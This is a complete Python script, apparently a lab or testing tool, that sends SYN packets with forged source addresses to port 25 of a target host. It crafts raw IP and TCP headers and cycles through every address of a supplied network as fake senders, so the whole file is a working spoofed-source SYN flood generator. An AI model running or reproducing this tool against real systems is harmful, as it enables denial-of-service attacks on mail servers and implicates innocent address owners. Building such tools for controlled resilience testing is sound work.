#!/usr/bin/env python3
"""SYNs in the name of others, as a flood has them: each the only segment of its connection.

    syn_flood.py NETWORK DESTINATION COUNT SECONDS

Sources are the addresses of NETWORK (IPv4) in turn, with the odd ports; evenly spread over
SECONDS. The box needs a route for NETWORK to a host that answers nothing.
"""

import ipaddress
import socket
import struct
import sys
import time

from raw_client import HEADER, SYN, WINDOW, checksum

COUNT_MAX = 20000
BURST = 50


def packet(source, port, destination, number):
    def segment(value):
        return HEADER.pack(port, 25, number, 0, HEADER.size // 4 << 4, SYN, WINDOW, value, 0)

    pseudo = source + destination + struct.pack("!BBH", 0, socket.IPPROTO_TCP, HEADER.size)
    tcp = segment(checksum(pseudo + segment(0)))
    # The kernel fills in the identification and the header's checksum (raw(7)).
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, socket.IPPROTO_TCP, 0)
    return ip + source + destination + tcp


def main():
    network, destination, count, seconds = sys.argv[1:]
    count, seconds = min(int(count), COUNT_MAX), float(seconds)
    sources = [address.packed for address in ipaddress.ip_network(network).hosts()]
    flood = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    begin = time.monotonic()
    for i in range(count):
        port = 1025 + 2 * (i // len(sources))
        source = sources[i % len(sources)]
        flood.sendto(packet(source, port, socket.inet_aton(destination), i), (destination, 0))
        if i % BURST == 0:
            time.sleep(max(0, begin + seconds * i / count - time.monotonic()))
    print(f"sent {count}")


if __name__ == "__main__":
    main()
